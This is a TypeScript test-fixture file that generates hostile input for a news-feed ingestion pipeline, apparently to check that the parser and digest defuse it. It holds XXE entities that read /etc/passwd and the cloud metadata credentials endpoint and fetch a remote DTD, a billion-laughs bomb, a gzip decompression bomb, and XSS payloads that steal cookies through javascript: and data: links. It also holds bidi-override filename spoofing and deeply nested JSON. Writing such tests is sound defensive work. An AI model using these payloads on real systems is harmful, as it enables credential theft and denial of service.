import { gzipSync } from 'node:zlib';
import iconv from 'iconv-lite';
import { type FeedItem, rss } from './hostile-web.js';

/**
 * The hostile input corpus, generated at test time so nothing large is committed. Every document
 * names a real academy, so whatever survives parsing goes on through matching, scoring, storage and
 * the digest, where the hostile parts must arrive defused.
 */

const NORTHBROOK = 'Northbrook Academy';

/** External entities (https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing): file, metadata service, parameter entity. */
export const xxeFeed = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">
  <!ENTITY % remote SYSTEM "http://metadata.hostile.test/evil.dtd">
  %remote;
]>
<rss version="2.0"><channel><title>XXE</title>
<item><title>${NORTHBROOK} news &xxe;</title><link>https://xxe.example/1</link><description>&ssrf; ${NORTHBROOK} open evening</description></item>
</channel></rss>`;

/** Entity expansion (https://en.wikipedia.org/wiki/Billion_laughs_attack): 10^9 "lol"s if expanded. */
export const billionLaughsFeed = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
${Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n')}
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>${NORTHBROOK} &lol9;</title><link>https://bomb.example/1</link><description>&lol9;</description></item></channel></rss>`;

/** A well-formed feed of about `megabytes` MB: one item with a huge description, then padding items. */
export function hugeFeed(megabytes: number): string {
  const filler = 'Northbrook Academy fundraising update. '.repeat(1_000);
  const items: FeedItem[] = [];
  while (items.length * filler.length < megabytes * 1024 * 1024) {
    items.push({ title: `${NORTHBROOK} item ${items.length}`, link: `https://huge.example/${items.length}`, text: filler, publishedAt: '2026-11-24T05:00:00Z' });
  }
  return rss(items, 'Huge');
}

/** `megabytes` MB of whitespace gzipped to a few KB: a decompression bomb behind Content-Encoding: gzip. */
export const gzipBomb = (megabytes: number): Buffer =>
  gzipSync(Buffer.concat([Buffer.from(`<?xml version="1.0"?><rss version="2.0"><channel><title>`), Buffer.alloc(megabytes * 1024 * 1024, 0x20)]), { level: 9 });

/** Declared UTF-8, with bytes that are not UTF-8 (a lone continuation byte, an overlong form, a cut sequence). */
export function invalidUtf8Feed(): Buffer {
  const head = Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Bad bytes</title><item><title>${NORTHBROOK} caf`);
  const bad = Buffer.from([0xe9, 0x20, 0x80, 0xc0, 0xaf, 0x20, 0xe2, 0x82]);
  const tail = Buffer.from(` menu</title><link>https://bytes.example/1</link><description>Lunch menu for ${NORTHBROOK}.</description></item></channel></rss>`);
  return Buffer.concat([head, bad, tail]);
}

/** Windows-1252 bytes under an ISO-8859-1 label, as many old CMSs send: curly quotes, a euro sign. */
export function mixedEncodingFeed(): Buffer {
  const text = `<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel><title>Old CMS</title><item><title>${NORTHBROOK}’s “summer fair” raised €500</title><link>https://cms.example/1</link><description>Thanks to all at ${NORTHBROOK}.</description></item></channel></rss>`;
  return iconv.encode(text, 'windows-1252');
}

/** Text a person reads in the digest, written to break it: markup, script links, bidi overrides, zero-width joins. */
export const HOSTILE_TEXT = {
  title: 'Riverside Junior Academy pupil being bullied and threatened with a knife at the gates <script>alert("title")</script>',
  description:
    '<p>Riverside Junior Academy kids <img src=x onerror="alert(1)"> <a href="javascript:alert(document.cookie)">click</a> ' +
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">more</a> ' +
    '<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style> ' +
    // U+202E flips the rest of the line; U+200B/U+200D/U+2060 hide inside words; U+FEFF is a stray BOM.
    'Reply to \u202Egpj.exe\u202C now, me\u200Bssage h\u200De\u2060r \uFEFFtonight</p>',
  link: 'javascript:alert(1)//https://news.example.org/riverside/hostile',
  dataLink: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
};

export function hostileTextFeed(publishedAt: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Forum</title>
<item><title>${escapeXml(HOSTILE_TEXT.title)}</title><link>${escapeXml(HOSTILE_TEXT.link)}</link><guid>hostile-1</guid><pubDate>${new Date(publishedAt).toUTCString()}</pubDate><description>${escapeXml(HOSTILE_TEXT.description)}</description></item>
<item><title>Riverside Junior Academy pupil being bullied, video at the link</title><link>https://news.example.org/riverside/hostile-2</link><guid>hostile-2</guid><pubDate>${new Date(publishedAt).toUTCString()}</pubDate><description>${escapeXml(`Riverside Junior Academy kids threatened with a knife <a href="${HOSTILE_TEXT.dataLink}">video</a>`)}</description></item>
</channel></rss>`;
}

const escapeXml = (s: string): string => s.replace(/[<>&'"]/g, (c) => `&#${c.charCodeAt(0)};`);

/** A Bluesky app.bsky.feed.searchPosts answer (https://docs.bsky.app/docs/api/app-bsky-feed-search-posts). */
export function blueskyPage(count: number, options: { nestedDepth?: number } = {}) {
  const post = (i: number) => ({
    uri: `at://did:plc:reliability${i}/app.bsky.feed.post/3l${i.toString(36).padStart(10, '0')}`,
    cid: `bafyreia${i}`,
    author: { did: `did:plc:reliability${i}`, handle: `parent${i}.bsky.social`, displayName: `Parent ${i}` },
    record: { $type: 'app.bsky.feed.post', text: `Well done Millfield Primary Academy on the nativity, post ${i}`, createdAt: '2026-11-24T05:00:00.000Z', langs: ['en'] },
    replyCount: 0,
    repostCount: 0,
    likeCount: i % 7,
    indexedAt: new Date(Date.parse('2026-11-24T05:00:00.000Z') - i * 1000).toISOString(),
    labels: [],
  });
  const posts: unknown[] = Array.from({ length: count }, (_, i) => post(i));
  let body = JSON.stringify({ cursor: 'next-page', hitsTotal: count, posts });
  if (options.nestedDepth) {
    // One post whose embed nests arrays deeper than any real payload: parsers and serialisers that recurse overflow.
    const nested = `${'['.repeat(options.nestedDepth)}${']'.repeat(options.nestedDepth)}`;
    const deep = JSON.stringify({ ...post(count), embed: { $type: 'app.bsky.embed.record', record: '__DEEP__' } }).replace('"__DEEP__"', nested);
    body = body.replace('"posts":[', `"posts":[${deep},`);
  }
  return body;
}
